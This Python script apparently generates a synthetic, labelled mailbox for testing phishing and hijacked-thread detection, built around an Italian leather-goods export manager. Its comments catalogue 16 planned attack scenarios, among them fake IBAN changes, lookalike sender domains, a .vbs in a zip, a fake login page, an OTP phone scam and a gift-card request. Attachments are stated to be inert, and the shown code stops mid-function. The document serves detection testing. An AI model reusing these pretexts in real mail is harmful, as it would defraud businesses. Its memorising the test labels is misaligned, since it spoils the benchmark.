#!/usr/bin/env python3
# Usage: python3 docs/probe/make-probe-corpus-25.py OUT_DIR
#
# Probe mailbox "giulia": Giulia Ferri, export and customer-service manager of Pelletteria Arnolfi S.r.l., a leather-goods
# manufacturer in Scandicci (Florence). Mail is hosted by Aruba (ordinary mailbox giulia.ferri@pelletteria-arnolfi.example, read with
# Outlook 2021 desktop in Italian over IMAP; webmail and her iPhone when travelling). The company also has a PEC box
# (pelletteriaarnolfi@pec.example, Italian certified e-mail at Aruba PEC) that forwards a copy of everything it receives to Giulia:
# PEC transport envelopes "POSTA CERTIFICATA: ..." (From "Per conto di: x" <posta-certificata@provider>, postacert.eml, daticert.xml,
# smime.p7s), ACCETTAZIONE / CONSEGNA receipts and the SDI e-invoicing notifications (FatturaPA .xml.p7m).
# Italian with the tanneries, the metal-parts supplier, the commercialista, the bank, the courier and the freight forwarder; French with
# two Paris boutiques and a Lyon distributor and a Lyon shop; English with a New York wholesaler. Sept 2024 - June 2025.
# Writes OUT_DIR/labels.tsv, OUT_DIR/scenarios.tsv (file -> scenario id, description) and OUT_DIR/mailboxes/giulia/{INBOX,Sent}/N.eml
# numbered in arrival order across both folders (CRLF). Only test messages are labelled; the rest is context history.
# Deterministic (random.Random(25)); no network; no third-party packages; attachments are inert (text or random bytes inside real
# ZIP / PDF / OOXML / OneNote / PKCS#7 container structure).
#
# Receiving side: Aruba MX (mxdhNN.aruba.example) + LMTP to imapdhNN; Authentication-Results of mxdh; Aruba signs the mail of its
# hosted domains with d=aruba.example s=a1 (so DMARC for those From domains is "none", not aligned).
# Correspondents, each with a fixed fingerprint (client, Message-ID shape, Received path, DKIM d=/s=, quote style, time zone):
#   Roberto Arnolfi (owner) and Elena Bruni (accounts), colleagues: Outlook 16 desktop IT via "Aruba Outgoing Smtp" from the office IP;
#     Roberto also iPhone Mail when travelling.
#   Marco Bellucci + amministrazione, Conceria Valdarno S.p.A. (tannery, Santa Croce sull'Arno): Outlook 16 desktop IT on Aruba,
#     "<....01db....$........$........$@conceria-valdarno.example>", quote block "Da: / Inviato: / A: / Oggetto:".
#   Sandro Nuti, Conceria Il Ponte snc (tannery): conceriailponte@libero.example, Libero Mail (Italiaonline Open-Xchange webmail),
#     OX Message-ID "<n.n.ms@mail1.libero.example>", smtp-NN.iol.local, DKIM d=libero.example s=s2021, quote "Il dd/mm/yyyy hh:mm CET ... ha scritto:".
#   Alessio Gori, Minuterie Metalliche Gori (buckles, zips): alessio.gori@virgilio.example, Virgilio Mail (same Italiaonline OX stack).
#   Dott. Paolo Rinaldi + Chiara Lotti (payroll), Studio Rinaldi (commercialista): Microsoft 365, Outlook desktop IT, EXO ids
#     "...@VI1PR09MBnnnn.eurprd09.prod.outlook.com", DKIM d=studiorinaldi-fi.example s=selector1; PEC studiorinaldi@legalmail.example.
#   Luca Sarti, gestore imprese, Banca Toscana Credito: HCL Notes 12 (OF...-ON... Message-IDs, X-MIMETrack), mailgw02, DKIM s=btc2022;
#     plus the bank's no-reply notifications (comunicazioni.bancatoscanacredito.example).
#   Valentina Mori + amministrazione, Fracassi Spedizioni Internazionali (air-freight forwarder): Microsoft 365, Outlook desktop IT.
#   Camille Roux, Atelier Sévigné (Paris boutique): atelier.sevigne@orange.example, Orange webmail (JavaMail ids, X-ME-* headers,
#     "> Message du dd/mm/yy hh:mm" quote); from February 2025 also her new iPhone (helo smtpclient.apple, announced).
#   Julien Mercier, Maison Ardoise (Paris boutique): own domain on OVH MX Plan, Apple Mail on macOS (UUID ids, ghost-submission
#     Received chain, X-Ovh-Tracer-Id, X-VR-SPAMCAUSE), "Le ... à ..., X a écrit :" quote.
#   Nathalie Girard, Thomas Blanc, later Inès Moreau, Distribution Rhône Maroquinerie (Lyon distributor): Microsoft 365, Outlook
#     desktop FR ("RE : ", "De : / Envoyé : / À : / Objet :"), Word HTML, ids "...@PAXP193MBnnnn.EURP193.PROD.OUTLOOK.COM".
#   Léonie Bastide, Les Malles de Léonie (Lyon shop): leonie.bastide@gmail.com, Gmail web and Gmail for Android (French quote).
#   Megan O'Connell, Dan Whitaker, Accounts Payable, Hudson & Pike Leather Goods (New York wholesaler): Google Workspace Gmail web,
#     America/New_York with DST, DKIM d=hudsonpike.example s=google.
#   Andrea Pieri, Chianti Informatica (IT provider): Thunderbird on Linux, plain text format=flowed, own Postfix, DKIM s=mail2023.
#   Mailman 3 list export-moda@liste.cna-toscana.example ("[Export Moda]"); newsletters; Veloce Express courier notifications;
#   Aruba service notices; DocuSign; PEC receipts and SDI notifications.
#
# Threads (34): T1 Valdarno AW25 calf order (+ Christmas out-of-office); T2 Valdarno defective-lot claim, revived after 6 months; T3 Valdarno
#   statement of account; T4 Il Ponte colour sampling; T5 Il Ponte nappa order (+ SS26 samples in June); T6 Gori buckles for SS25; T7 Gori
#   new bank details; T8 Gori 2025 supply agreement; T9 Rinaldi December tax payments; T10 Rinaldi 2024 financial statements (+ minutes);
#   T11 Chiara December payslips (+ monthly payslip mails); T12 the commercialista's PEC with the F24 (+ the spoofed "reply"); T13 bank:
#   credit-line renewal and export-invoice advances; T14 Fracassi first New York air shipment; T15 Fracassi second shipment; T16 Sévigné
#   Christmas restock; T17 Sévigné spring order; T18 Ardoise showroom visit; T19 Ardoise spring order (+ May reorder); T20 DRM AW24 order
#   and logistics; T21 DRM SS25 samples; T22 Léonie first order (+ reorders); T23 Hudson & Pike holiday reorder, revived after 5 months;
#   T24 Hudson & Pike SS25 PO; T25 internal: Première Classe trade show; T26 internal: forwarded catalogue request; T27 internal: supplier
#   payments; T28 Chianti Informatica new laptop / Outlook; T29 [Export Moda] list thread on US tariffs; T30 Valdarno SS26 samples;
#   T31 DRM SS25 order; T32 internal SS26 style meeting; T33 Fracassi third shipment; T34 Sévigné summer order.
#   Plus stand-alone mail: bank notifications, courier notifications, PEC receipts, SDI notifications, monthly payslip mails, newsletters,
#   other list posts, Aruba notices, DocuSign, and two fabricated threads.
#
# Hijacks (16):
#   A1  T4  server-hijack      Il Ponte's real Libero webmail (same headers): formal generic "campionario colori" with a zip holding a .vbs
#   A2  T3  account-takeover   Valdarno account via Aruba webmail from a foreign IP: new IBAN "per motivi di fusione", RiBa to be ignored, no payload
#   A3  T17 account-takeover   Sévigné Orange account from a foreign IP with a desktop Outlook: HTML "bon de commande" (login page), no quote, 02:48
#   A4  T21 account-takeover   DRM M365 account via OWA (en-US) at 04:12: samples to a new depot + "fiche d'enlèvement" link on an unknown domain
#   A5  T10 server-hijack      Studio Rinaldi M365 (same headers): fake "avviso di pagamento pagoPA" PDF with a link to a fake checkout
#   A6  T12 display-name-spoof "Per conto di: studiorinaldi@legalmail.example" on a compromised shop's host: fake PEC text, encrypted zip + password
#   A7  T24 server-hijack      Hudson & Pike Gmail (same headers): "vendor compliance packet" on a published docs.google.com presentation
#   A8  T15 lookalike-domain   fracassi-spedizloni.example: duties invoice PDF on an FCA shipment, account "in verification", LT IBAN
#   A9  T24 lookalike-domain   hudson-pike.example: redirect the next shipment to a new NJ 3PL, DAP, documents to her only; quote altered
#   A10 --  fake-thread        stranger "R: Spedizione ... in giacenza": redelivery-fee link, fabricated quote of Giulia
#   A11 --  fake-thread        stranger "RE: Cedolini dicembre e CU 2025": OneNote attachment, no quote, unknown References
#   A12 T19 server-hijack      Maison Ardoise OVH/Apple Mail (same headers): English voicemail notice with an SVG attachment, French thread
#   A13 T8  server-hijack      Gori's Virgilio webmail (same headers): the agreed paper contract "for e-signature" on a third party's SharePoint
#   A14 T25 display-name-spoof "Roberto Arnolfi" at outlook.com in the trade-show thread: Amazon gift cards for the buyers
#   A15 T13 display-name-spoof "Luca Sarti" at gmail.com: OTP device suspended, call a number and read out the SMS code
#   A16 T28 account-takeover   IT provider's account via his Roundcube from a foreign IP: "Outlook/Aruba update" zip on dropbox.com
#
# Genuine hard cases (31):
#   G1  T12 PEC envelope from the commercialista (F24 models): postacert.eml + daticert.xml + smime.p7s, no reply headers
#   G2  --  PEC ACCETTAZIONE receipt of a claim sent from the PEC box (X-Riferimento-Message-ID only)
#   G3  --  PEC CONSEGNA receipt with the full original (postacert.eml)
#   G4  --  SDI "Invio File" with Valdarno's FatturaPA .xml.p7m and metadata file (real IBAN inside)
#   G5  --  SDI "Notifica di scarto" for one of Arnolfi's own invoices
#   G6  T7  Gori announces new bank details with a signed letter PDF (Giulia verifies by phone, confirmed in Sent)
#   G7  T7  Gori's first invoice with the verified new IBAN
#   G8  T21 Nathalie's Outlook out-of-office (French/English)
#   G9  T24 Megan's Gmail vacation responder
#   G10 T29 list member (stranger) answers Giulia's list question with a link to the customs agency page and a PDF
#   G11 T29 list reply whose From is rewritten "via Export Moda" (DMARC mitigation), list footer
#   G12 T26 Roberto forwards a customer's catalogue request ("I:") with the customer's PDF
#   G13 T21 DRM's new purchasing assistant (introduced by Nathalie two weeks earlier) writes herself with an XLSX
#   G14 T17 Camille writes from her new iPhone (announced change of device / client)
#   G15 T22 Léonie from Gmail for Android at 23:47
#   G16 T22 Léonie's first link in the thread: Google Drive folder with shop photos
#   G17 T23 Hudson & Pike revive the holiday reorder thread after 5 months
#   G18 T24 Hudson & Pike accounts payable (new sender) joins with a remittance advice PDF
#   G19 --  DocuSign envelope for the vendor agreement Megan announced in T24 (no reply headers)
#   G20 T20 Thomas Blanc's SharePoint link to the new packing-list template (he always sends SharePoint links)
#   G21 T20 Nathalie's XLSX order form (bon de commande) as attachment
#   G22 T18 Julien's Apple Calendar .ics invitation for the showroom visit
#   G23 T14 Fracassi send the zipped export customs documents Giulia asked for
#   G24 T14 Fracassi invoice with their (unchanged) IBAN in text and PDF
#   G25 T2  Valdarno's credit note revives the defective-lot claim after 6 months
#   G26 T1  Valdarno server-side out-of-office autoreply over Christmas
#   G27 T3  Marco announces his new mobile number (signature changes from then on)
#   G28 T13 bank sends the credit-line contract for signature on the bank's own e-signature portal (link)
#   G29 T11 payroll assistant sends password-protected payslip PDFs (password known, not in the mail)
#   G30 T28 IT provider sends a remote-assistance download link on his own domain
#   G31 T4  Sandro sends a WeTransfer link for the hi-res photos he announced
# Genuine orphans (2): O1 Hudson's logistics coordinator answers a forward Megan sent him (parent not in mailbox);
#   O2 Chiara replies to a PEC Giulia sent from the PEC box (parent not in this mailbox).
# Plain genuine replies: every other in-thread partner or colleague reply, and member replies in the list thread (genuine-reply).
# Counts: 367 messages (249 INBOX, 118 Sent); 147 labelled: 16 hijacks (5 server-hijack, 4 account-takeover, 3 display-name-spoof,
#   2 lookalike-domain, 2 fake-thread), 98 genuine-reply, 31 genuine-hard, 2 genuine-orphan.
import base64, datetime, hashlib, html as H, io, os, quopri, random, struct, sys, textwrap, uuid, zipfile, zlib
from zoneinfo import ZoneInfo

root = sys.argv[1]
MB = "giulia"
for f in ("INBOX", "Sent"): os.makedirs(f"{root}/mailboxes/{MB}/{f}", exist_ok=True)
R = random.Random(25)
ROME = ZoneInfo("Europe/Rome"); PAR = ZoneInfo("Europe/Paris"); NYC = ZoneInfo("America/New_York")
PAC = ZoneInfo("America/Los_Angeles"); UTC = datetime.timezone.utc
TD = datetime.timedelta


def hx(k): return "".join(R.choice("0123456789abcdef") for _ in range(k))
def HX(k): return hx(k).upper()
def rbytes(k): return bytes(R.getrandbits(8) for _ in range(k))
def ruuid(): return str(uuid.UUID(int=R.getrandbits(128), version=4))
def alnum(k): return "".join(R.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(k))
def digits(k): return "".join(R.choice("0123456789") for _ in range(k))
def b64(k): return base64.b64encode(rbytes(k)).decode()
def at(y, mo, d, h, mi, tz=ROME): return datetime.datetime(y, mo, d, h, mi, R.randint(0, 59), tzinfo=tz)


# ---------------------------------------------------------------- Italian IBAN / P.IVA with real check digits
_ODD = [1, 0, 5, 7, 9, 13, 15, 17, 19, 21, 2, 4, 18, 20, 11, 3, 6, 8, 12, 14, 16, 10, 22, 25, 24, 23]
def _val(c): return int(c) if c.isdigit() else ord(c) - 65
def iban_check(cc, bban):
    s = "".join(str(int(c, 36)) for c in (bban + cc + "00"))
    return f"{98 - int(s) % 97:02d}"
def iban_it(abi, cab, conto):
    s = abi + cab + conto
    cin = chr(65 + sum(_ODD[_val(c)] if i % 2 == 0 else _val(c) for i, c in enumerate(s)) % 26)
    bban = cin + s
    return "IT" + iban_check("IT", bban) + bban
def iban_lt(bank, acct): bban = bank + acct; return "LT" + iban_check("LT", bban) + bban
def spaced(iban): return " ".join(iban[i:i + 4] for i in range(0, len(iban), 4))
def piva(base10):
    s = 0
    for i, c in enumerate(base10):
        d = int(c)
        if i % 2: d = d * 2 - 9 if d * 2 > 9 else d * 2
        s += d
    return base10 + str((10 - s % 10) % 10)


# ---------------------------------------------------------------- people
class Pt:
    def __init__(s, name, email, client, infra, sig="", tz=ROME, lang="it"):
        s.name, s.email, s.client, s.infra, s.sig, s.tz, s.lang = name, email, client, infra, sig, tz, lang
        s.dom = email.split("@")[1]


OWN = "pelletteria-arnolfi.example"
PIVA_ARN = piva("0587312048")
SIG_ME = ("\n\nGiulia Ferri\nExport & Customer Service\nPelletteria Arnolfi S.r.l.\nVia Pisana 312 - 50018 Scandicci (FI) - Italia\n"
          "Tel. +39 055 555 7140 - Mob. +39 347 555 2816\nwww.pelletteria-arnolfi.example")
me = Pt("Giulia Ferri", f"giulia.ferri@{OWN}", "ol", "aruba-own", SIG_ME)
roberto = Pt("Roberto Arnolfi", f"roberto.arnolfi@{OWN}", "ol", "aruba-own",
             "\n\nRoberto Arnolfi\nAmministratore\nPelletteria Arnolfi S.r.l.\nTel. +39 055 555 7100")
elena = Pt("Elena Bruni", f"elena.bruni@{OWN}", "ol", "aruba-own",
           "\n\nElena Bruni\nAmministrazione\nPelletteria Arnolfi S.r.l.\nTel. +39 055 555 7120")
marco = Pt("Marco Bellucci", "m.bellucci@conceria-valdarno.example", "ol", "aruba-valdarno",
           "\n\nMarco Bellucci\nUfficio Commerciale\nConceria Valdarno S.p.A.\nVia del Bosco 44 - 56029 Santa Croce sull'Arno (PI)\n"
           "Tel. 0571 555 312 - Cell. 335 555 1904")
sandro_xoip = "79.40.118.22"
MARCO_SIG2 = marco.sig.replace("Cell. 335 555 1904", "Cell. 366 555 8127")
vald_amm = Pt("Amministrazione Conceria Valdarno", "amministrazione@conceria-valdarno.example", "ol", "aruba-valdarno",
              "\n\nSilvia Parenti\nAmministrazione\nConceria Valdarno S.p.A.\nTel. 0571 555 300")
sandro = Pt("Conceria Il Ponte", "conceriailponte@libero.example", "oxl", "iol-libero",
            "\n\nSandro\nConceria Il Ponte snc\nVia Provinciale Francesca 81 - Ponte a Egola (PI)\ntel 0571 555 408")
alessio = Pt("Alessio Gori", "alessio.gori@virgilio.example", "oxv", "iol-virgilio",
             "\n\nAlessio Gori\nMinuterie Metalliche Gori\nVia dei Cipressi 9 - 50019 Sesto Fiorentino (FI)\n055 555 4471 - 339 555 0618")
rinaldi = Pt("Paolo Rinaldi", "paolo.rinaldi@studiorinaldi-fi.example", "exo", "exo-rinaldi",
             "\n\nDott. Paolo Rinaldi\nDottore Commercialista - Revisore Legale\nStudio Rinaldi & Associati\nViale Europa 118 - 50126 Firenze\n"
             "Tel. 055 555 6380\n\nLe informazioni contenute in questo messaggio sono riservate e destinate esclusivamente al destinatario.")
chiara = Pt("Chiara Lotti", "chiara.lotti@studiorinaldi-fi.example", "exo", "exo-rinaldi",
            "\n\nChiara Lotti\nUfficio Paghe\nStudio Rinaldi & Associati\nTel. 055 555 6384")
luca = Pt("Luca Sarti", "luca.sarti@bancatoscanacredito.example", "notes", "btc",
          "\n\nLuca Sarti\nGestore Imprese - Filiale di Scandicci\nBanca Toscana Credito S.p.A.\nTel. 055 555 9021")
BTC_DISC = ("\n\n--------------------------------------------------------------------------------\nBanca Toscana Credito S.p.A. - Le informazioni "
            "contenute nella presente comunicazione sono riservate. La Banca non richiede mai via e-mail codici, password o dispositivi di "
            "sicurezza.")
valentina = Pt("Valentina Mori", "valentina.mori@fracassi-spedizioni.example", "exo", "exo-fracassi",
               "\n\nValentina Mori\nExport Air Department\nFracassi Spedizioni Internazionali S.r.l.\nVia dell'Aeroporto 21 - 50145 Firenze\n"
               "Tel. +39 055 555 3390 | www.fracassi-spedizioni.example")
fracamm = Pt("Fracassi - Amministrazione", "amministrazione@fracassi-spedizioni.example", "exo", "exo-fracassi",
             "\n\nUfficio Amministrazione\nFracassi Spedizioni Internazionali S.r.l.\nTel. +39 055 555 3300")
camille = Pt("Camille Roux", "atelier.sevigne@orange.example", "orange", "orange", "\n\nCamille Roux\nAtelier Sévigné\n"
             "48 rue de Sévigné, 75003 Paris\n01 45 55 21 07", tz=PAR, lang="fr")
julien = Pt("Julien Mercier", "julien@maison-ardoise.example", "apple", "ovh",
            "\n\nJulien Mercier\nMaison Ardoise\n61 rue du Cherche-Midi, 75006 Paris\n+33 1 42 55 38 90", tz=PAR, lang="fr")
nathalie = Pt("Nathalie Girard", "nathalie.girard@drm-lyon.example", "exofr", "exo-drm",
              "\n\nNathalie Girard\nResponsable achats\nDistribution Rhône Maroquinerie\n27 rue de la Soie, 69100 Villeurbanne\n"
              "Tél. : +33 4 78 55 61 20", tz=PAR, lang="fr")
thomas = Pt("Thomas Blanc", "thomas.blanc@drm-lyon.example", "exofr", "exo-drm",
            "\n\nThomas Blanc\nLogistique / ADV\nDistribution Rhône Maroquinerie\nTél. : +33 4 78 55 61 24", tz=PAR, lang="fr")
ines = Pt("Inès Moreau", "ines.moreau@drm-lyon.example", "exofr", "exo-drm",
          "\n\nInès Moreau\nAssistante achats\nDistribution Rhône Maroquinerie\nTél. : +33 4 78 55 61 27", tz=PAR, lang="fr")
sandro.xoip = "79.40.118.22"; alessio.xoip = "2.236.14.87"; camille.xoip = "90.34.171.52"
leonie = Pt("Léonie Bastide", "leonie.bastide@gmail.com", "gmailfr", "gmail",
            "\n\nLéonie\nLes Malles de Léonie\n12 montée de la Grande-Côte, 69001 Lyon", tz=PAR, lang="fr")
megan = Pt("Megan O'Connell", "megan.oconnell@hudsonpike.example", "gws", "gws-hudson",
           "\n\nMegan O'Connell\nSenior Buyer, Leather Goods\nHudson & Pike Leather Goods Inc.\n251 West 39th Street, New York, NY 10018\n"
           "(212) 555-0147", tz=NYC, lang="en")
dan = Pt("Dan Whitaker", "dan.whitaker@hudsonpike.example", "gws", "gws-hudson",
         "\n\nDan Whitaker\nLogistics Coordinator | Hudson & Pike\nSecaucus DC: 400 Meadowlands Pkwy, Secaucus, NJ 07094\n(201) 555-0183", tz=NYC, lang="en")
hpap = Pt("Hudson & Pike Accounts Payable", "ap@hudsonpike.example", "gws", "gws-hudson",
          "\n\nAccounts Payable\nHudson & Pike Leather Goods Inc.\nap@hudsonpike.example | (212) 555-0150", tz=NYC, lang="en")
andrea = Pt("Andrea Pieri", "andrea.pieri@chiantinformatica.example", "tb", "chianti",
            "\n\n-- \nAndrea Pieri\nChianti Informatica s.r.l. - assistenza sistemi\nVia Chiantigiana 54, Grassina (FI)\n055 555 2290 - 328 555 7712")

# helo/rdns, ip, dkim d, dkim s (None = unsigned), dmarc policy (None = no record), envelope domain (None = From domain)
INFRA = {
    "aruba-own": ("smtpdh19-2.aruba.example", "62.149.155.{}", "aruba.example", "a1", None, None),
    "aruba-valdarno": ("smtpdh17-1.aruba.example", "62.149.155.{}", "aruba.example", "a1", None, None),
    "iol-libero": ("smtp-{}.libero.example", "213.209.10.{}", "libero.example", "s2021", "quarantine", None),
    "iol-virgilio": ("smtp-{}.virgilio.example", "213.209.12.{}", "virgilio.example", "s2021", "quarantine", None),
    "exo-rinaldi": ("mail-vi1eur04on2107.outbound.protection.outlook.com", "40.107.8.107", "studiorinaldi-fi.example", "selector1", "none", None),
    "exo-fracassi": ("mail-db8eur05on2091.outbound.protection.outlook.com", "40.107.20.91", "fracassi-spedizioni.example", "selector2", "quarantine", None),
    "exo-drm": ("mail-mr2fra01on2070.outbound.protection.outlook.com", "40.107.9.70", "drm-lyon.example", "selector1", "none", None),
    "btc": ("mailgw02.bancatoscanacredito.example", "185.84.112.37", "bancatoscanacredito.example", "btc2022", "reject", None),
    "btc-notif": ("mta03.comunicazioni.bancatoscanacredito.example", "185.84.112.91", "comunicazioni.bancatoscanacredito.example", "btcn1", "reject", None),
    "orange": ("smtp-{}.smtpout.orange.example", "80.12.242.{}", "orange.example", "t20230301", "none", None),
    "ovh": ("mo{}.mail-out.ovh.example", "46.105.{}.{}", "maison-ardoise.example", "ovhmo4264123-selector1", "none", None),
    "gmail": ("mail-{}-f{}.google.com", "209.85.{}.{}", "gmail.com", "20230601", "none", None),
    "gws-hudson": ("mail-{}-f{}.google.com", "209.85.{}.{}", "hudsonpike.example", "google", "quarantine", None),
    "chianti": ("mail.chiantinformatica.example", "93.146.201.18", "chiantinformatica.example", "mail2023", "quarantine", None),
    "legalmail": ("smtpfw01.pec.example", "62.149.158.{}", None, None, None, "pec.example"),
    "mailman": ("liste.cna-toscana.example", "151.1.214.77", "liste.cna-toscana.example", "lists", "none", "liste.cna-toscana.example"),
    "velocex": ("mailout2.notifiche.velocexpress.example", "195.110.127.42", "notifiche.velocexpress.example", "vx1", "reject", None),
    "aruba-notice": ("smtpnotify3.aruba.example", "62.149.156.21", "aruba.example", "a1", "reject", None),
    "mc-scap": ("mail{}.sea91.mcsv.example", "198.2.{}.{}", "scaparis.example", "k2", "none", "mcsv.example"),
    "cciaa": ("mta1.newsletter.fi.camcom.example", "93.62.150.14", "fi.camcom.example", "nl2024", "none", None),
    "docusign": ("mail-na4.docusign.net", "64.207.219.{}", "docusign.net", "s1", "reject", "docusign.net"),
    "outlookcom": ("EUR05-DB8-obe.outbound.protection.outlook.com", "52.100.{}.{}", "outlook.com", "selector1", "none", None),
    # attacker infrastructure
    "look-fracassi": ("mail.fracassi-spedizloni.example", "185.239.242.{}", "fracassi-spedizloni.example", "default", None, None),
    "look-hudson": ("mta-{}.privateemail.example", "198.54.127.{}", "hudson-pike.example", "default", None, None),
    "fake-giacenza": ("vps-{}.srv-host.example", "91.215.85.{}", None, None, None, None),
    "fake-paghe": ("cp-{}.webhosting-eu.example", "5.253.84.{}", "studio-elaborazione-paghe.example", "default", None, None),
    "pec-spoof": ("server1.ferramentabaldi.example", "89.46.104.{}", None, None, None, None),
}
ARUBA_MX = ["mxdh12.aruba.example", "mxdh14.aruba.example", "mxdh21.aruba.example"]
OFFICE_IP = "93.62.118.40"  # Pelletteria Arnolfi office line
HOST_MEM = {}


def fixed(key, make):
    if key not in HOST_MEM: HOST_MEM[key] = make()
    return HOST_MEM[key]


def exbuild(t):
    days = (t - datetime.datetime(2024, 9, 1, tzinfo=UTC)).days
    return f"15.20.{7918 + int(days * 3.1)}.{R.randint(10, 40):03d}"


EXO = {"studiorinaldi-fi.example": ("VI1PR09MB{}", "eurprd09", "2603:10a6:800"),
       "fracassi-spedizioni.example": ("DU2PR04MB{}", "eurprd04", "2603:10a6:10"),
       "drm-lyon.example": ("PAXP193MB{}", "EURP193", "2603:10a6:102")}
EXO_BOX = {("studiorinaldi-fi.example", "paolo.rinaldi"): "6632", ("studiorinaldi-fi.example", "chiara.lotti"): "6641",
           ("fracassi-spedizioni.example", "valentina.mori"): "8791", ("fracassi-spedizioni.example", "amministrazione"): "8802",
           ("drm-lyon.example", "nathalie.girard"): "2147", ("drm-lyon.example", "thomas.blanc"): "2153",
           ("drm-lyon.example", "ines.moreau"): "2147"}
TENANT = {d: ruuid() for d in EXO}


def exo_host(who):
    pat, reg, _ = EXO[who.dom]
    return pat.format(EXO_BOX.get((who.dom, who.email.split("@")[0]), "2160")), reg


def filetime(t): return int((t.timestamp() + 11644473600) * 10**7) + R.randint(0, 9999)


# ---------------------------------------------------------------- Message-IDs per client
def make_mid(who, client, t):
    ms = int(t.timestamp() * 1000) + R.randint(0, 999)
    if client in ("ol", "olatk"):
        ft = filetime(t); return f"<{R.choice(('00', '01'))}{hx(2)}{ft >> 32:08x}${ft & 0xffffffff:08x}${hx(8)}$@{who.dom}>"
    if client in ("exo", "exofr", "owa"):
        host, reg = exo_host(who); return f"<{host}{HX(R.choice((16, 18, 20)))}@{host}.{reg}.prod.outlook.com>"
    if client == "outlookcom":
        host = fixed("olc-" + who.email, lambda: f"DU0P189MB{R.randint(1000, 9999)}"); return f"<{host}{HX(18)}@{host}.EURP189.PROD.OUTLOOK.COM>"
    if client in ("oxl", "oxv"):
        return f"<{R.randint(100000000, 2147483647)}.{R.randint(100000, 9999999)}.{ms}@mail1.{who.dom}>"
    if client == "privateemail": return f"<{R.randint(100000000, 2147483647)}.{R.randint(1000, 99999)}.{ms}@privateemail.example>"
    if client == "orange": return f"<{R.randint(100000000, 2147483647)}.{R.randint(1000, 99999)}.{ms}.JavaMail.www@wwinf{R.randint(2201, 2246)}>"
    if client in ("iphonefr", "iphoneit", "apple"): return f"<{ruuid().upper()}@{who.dom}>"
    if client in ("gmailfr", "gmailand", "gws", "gmail"):
        return "<CA" + base64.urlsafe_b64encode(rbytes(42)).decode()[:R.choice((52, 54, 55))] + "@mail.gmail.com>"
    if client == "tb": return f"<{ruuid()}@{who.dom}>"
    if client == "roundcube": return f"<{hx(32)}@{who.dom}>"
    if client == "notes":
        n = fixed("notes-node", lambda: "C1258" + HX(3)); return f"<OF{HX(8)}.{HX(8)}-ON{n}.{HX(8)}-{n}.{HX(8)}@{who.dom}>"
    if client == "phpmail": return f"<{hx(32)}@{who.dom}>"
    if client == "sieve": return f"<dovecot-sieve-{int(t.timestamp())}-{R.randint(100000, 999999)}-0@imapdh05>"
    return f"<{hx(24)}.{int(t.timestamp())}@{who.dom}>"


IT_MON = "gennaio febbraio marzo aprile maggio giugno luglio agosto settembre ottobre novembre dicembre".split()
IT_MAB = "gen feb mar apr mag giu lug ago set ott nov dic".split()
IT_DAY = "lunedì martedì mercoledì giovedì venerdì sabato domenica".split()
FR_MON = "janvier février mars avril mai juin juillet août septembre octobre novembre décembre".split()
FR_MAB = "janv. févr. mars avr. mai juin juil. août sept. oct. nov. déc.".split()
FR_DAY = "lundi mardi mercredi jeudi vendredi samedi dimanche".split()
FR_DAB = "lun. mar. mer. jeu. ven. sam. dim.".split()


def _lines(text, pfx="> "): return "\n".join(pfx + l if l else pfx.rstrip() for l in text.split("\n"))
def _flines(text): return "\n".join((">" + l) if l.startswith(">") else ("> " + l if l else ">") for l in text.split("\n"))
def _tos(lst): return "; ".join(f"{n} <{e}>" if n else e for n, e in lst)
def h12(t): return f"{t.hour % 12 or 12}:{t:%M} {'AM' if t.hour < 12 else 'PM'}"


def quote_of(client, q, tz=ROME):
    """plain-text quote block of record q as the replying client writes it (dates in the replier's zone)"""
    t = q["t"].astimezone(tz); name, email = q["name"], q["email"]
    if client in ("ol", "exo", "olatk"):
        rows = [("Da", f"{name} <{email}> "), ("Inviato", f"{IT_DAY[t.weekday()]} {t.day} {IT_MON[t.month - 1]} {t.year} {t:%H:%M}"), ("A", _tos(q["to"]))]
        if q["cc"]: rows.append(("Cc", _tos(q["cc"])))
        rows.append(("Oggetto", q["subj"]))
        return "\n\n" + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client == "exofr":
        rows = [("De", f"{name} <{email}> "), ("Envoyé", f"{FR_DAY[t.weekday()]} {t.day} {FR_MON[t.month - 1]} {t.year} {t:%H:%M}"), ("À", _tos(q["to"]))]
        if q["cc"]: rows.append(("Cc", _tos(q["cc"])))
        rows.append(("Objet", q["subj"]))
        return "\n\n" + "\n".join(f"{k} : {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client in ("owa", "outlookcom"):
        rows = [("From", f"{name} <{email}>"), ("Sent", f"{t:%A}, {t:%B} {t.day}, {t.year} {h12(t)}"), ("To", _tos(q["to"]))]
        if q["cc"]: rows.append(("Cc", _tos(q["cc"])))
        rows.append(("Subject", q["subj"]))
        return "\n\n________________________________\n" + "\n".join(f"{k}: {v}" for k, v in rows) + "\n\n" + q["plain"]
    if client in ("oxl", "oxv"):
        return f"\n\n> Il {t:%d/%m/%Y} {t:%H:%M} {t.tzname()} {name} <{email}> ha scritto:\n> \n> \n" + _lines(q["plain"])
    if client == "privateemail":
        return f"\n\n> On {t:%m/%d/%Y} {h12(t)} {t.tzname()} {name} <{email}> wrote:\n> \n> \n" + _lines(q["plain"])
    if client == "orange":
        return (f"\n\n> Message du {t:%d/%m/%y} {t:%H:%M}\n> De : \"{name}\" <{email}>\n> A : {_tos(q['to'])}\n> Copie à : {_tos(q['cc'])}\n"
                f"> Objet : {q['subj']}\n> \n" + _lines(q["plain"]))
    if client in ("apple", "iphonefr"):
        return f"\n\n> Le {t.day} {FR_MAB[t.month - 1]} {t.year} à {t:%H:%M}, {name} <{email}> a écrit :\n> \n" + _lines(q["plain"])
    if client == "iphoneit":
        return f"\n\n> Il giorno {t.day} {IT_MAB[t.month - 1]} {t.year}, alle ore {t:%H:%M}, {name} <{email}> ha scritto:\n> \n" + _lines(q["plain"])
    if client in ("gmailfr", "gmailand"):
        return f"\n\nLe {FR_DAB[t.weekday()]} {t.day} {FR_MAB[t.month - 1]} {t.year} à {t:%H:%M}, {name} <{email}> a écrit :\n\n" + _lines(q["plain"])
    if client in ("gws", "gmail"):
        return f"\n\nOn {t:%a}, {t:%b} {t.day}, {t.year} at {h12(t)} {name} <{email}> wrote:\n\n" + _lines(q["plain"])
    if client == "tb": return f"\n\nIl {t:%d/%m/%y} {t:%H:%M}, {name} ha scritto:\n" + _flines(q["plain"])
    if client == "roundcube": return f"\n\nIl {t:%Y-%m-%d} {t:%H:%M} {name} ha scritto:\n" + _flines(q["plain"])
    if client == "notes":
